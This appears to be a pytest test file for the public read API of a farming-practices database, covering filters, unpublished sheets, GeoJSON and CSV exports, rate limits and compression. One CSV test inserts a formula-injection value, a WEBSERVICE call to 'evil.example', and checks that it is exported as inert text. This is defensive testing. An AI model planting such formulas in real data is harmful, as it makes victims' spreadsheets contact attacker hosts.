"""The public read API: same filters as the page, published sheets only, licence in every record."""

import codecs
import csv
import io
import json

import pytest

from .factories import make_practice


@pytest.fixture
def catalogue(db):
    return [
        make_practice(name_en="Shea parkland", name_fr="Parc à karité", climate_zones=["tropical-dry"]),
        make_practice(name_en="Cover crops", category="cover-crops", climate_zones=["warm-temperate-moist"]),
        make_practice(published=False, name_en="Unpublished draft sheet"),
    ]


def test_json_filters_like_the_page_and_carries_the_licence(client, catalogue):
    body = client.get("/api/v1/practices/", {"climate": "tropical-dry", "lang": "fr"}).json()
    assert body["count"] == 1
    record = body["results"][0]
    assert record["name"] == "Parc à karité"
    assert record["licence"] == "CC BY-SA 4.0"
    assert record["attribution"] == "4 per 1000 Initiative practices database"
    assert record["climate_zones"] == ["tropical-dry"]
    assert record["url"].endswith(f"/practices/{catalogue[0].slug}/")


def test_nothing_unpublished_in_any_format(client, catalogue):
    for url in ("/api/v1/practices/", "/api/v1/practices.geojson", "/api/v1/practices.csv"):
        assert "Unpublished draft sheet" not in client.get(url).getvalue().decode(), url
    assert client.get("/api/v1/practices/").json()["count"] == 2


def test_geojson_has_one_feature_per_place(client, catalogue):
    make_practice(name_en="Two places", location=[[1, 2], [3, 4]])
    response = client.get("/api/v1/practices.geojson")
    assert response["Content-Type"] == "application/geo+json"
    assert response.streaming  # written while it is sent: 38 MB for every record at 50,000 sheets
    data = json.loads(response.getvalue())
    assert data["type"] == "FeatureCollection"
    two = [f for f in data["features"] if f["properties"]["name"] == "Two places"]
    assert [f["geometry"]["coordinates"] for f in two] == [[1, 2], [3, 4]]
    assert all(f["properties"]["licence"] == "CC BY-SA 4.0" for f in data["features"])


def test_csv_export(client, catalogue):
    response = client.get("/api/v1/practices.csv", {"category": "cover-crops"})
    assert response.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [r["Name"] for r in rows] == ["Cover crops"]
    assert rows[0]["Licence"] == "CC BY-SA 4.0"
    assert rows[0]["Climate zones"] == "warm-temperate-moist"


def test_csv_export_headers_follow_lang_and_formulas_stay_text(client, catalogue):
    from practices.models import Practice

    Practice.objects.filter(name_en="Cover crops").update(name_fr='=WEBSERVICE("https://evil.example")')
    response = client.get("/api/v1/practices.csv", {"category": "cover-crops", "lang": "fr"})
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header[3:6] == ["Nom", "Définition", "Catégorie"]
    assert row[3] == '\'=WEBSERVICE("https://evil.example")'


def test_openapi_schema_documents_the_three_formats(client, db):
    schema = client.get("/api/v1/openapi.json").json()
    assert schema["openapi"].startswith("3.")
    assert {"/api/v1/practices/", "/api/v1/practices.geojson", "/api/v1/practices.csv"} <= set(schema["paths"])
    parameters = {p["name"] for p in schema["paths"]["/api/v1/practices/"]["get"]["parameters"]}
    assert {
        "q",
        "category",
        "climate",
        "soil",
        "landuse",
        "region",
        "country",
        "evidence",
        "rate",
        "sort",
    } <= parameters


def test_rate_limit_per_ip(client, catalogue, settings):
    settings.API_RATE_LIMIT = 3
    statuses = [client.get("/api/v1/practices/", REMOTE_ADDR="10.0.0.1").status_code for _ in range(4)]
    assert statuses == [200, 200, 200, 429]
    refused = client.get("/api/v1/practices/", REMOTE_ADDR="10.0.0.1")
    assert "Too many requests" in refused.json()["error"]
    assert int(refused["Retry-After"]) <= 60
    # Another address is not affected.
    assert client.get("/api/v1/practices/", REMOTE_ADDR="10.0.0.2").status_code == 200


def test_json_answers_are_compressed_for_clients_that_ask(client, catalogue):
    import gzip

    for _ in range(4):  # enough records for compression to pay
        make_practice()
    plain = client.get("/api/v1/practices/", {"page_size": 50})
    zipped = client.get("/api/v1/practices/", {"page_size": 50}, HTTP_ACCEPT_ENCODING="gzip")
    assert zipped["Content-Encoding"] == "gzip" and "Accept-Encoding" in zipped["Vary"]
    assert json.loads(gzip.decompress(zipped.content)) == plain.json()
    geojson = client.get("/api/v1/practices.geojson", HTTP_ACCEPT_ENCODING="gzip")
    assert geojson["Content-Encoding"] == "gzip" and "Accept-Encoding" in geojson["Vary"]
    unpacked = json.loads(gzip.decompress(geojson.getvalue()))  # compressed while it is streamed
    assert unpacked == json.loads(client.get("/api/v1/practices.geojson").getvalue())
    assert len(unpacked["features"]) == 6  # the catalogue's two and these four
    import brotli

    packed = client.get("/api/v1/practices.geojson", HTTP_ACCEPT_ENCODING="br")
    assert packed["Content-Encoding"] == "br" and json.loads(brotli.decompress(packed.getvalue())) == unpacked
    # HTML pages are left as they are.
    assert "Content-Encoding" not in client.get("/en/practices/", HTTP_ACCEPT_ENCODING="gzip")
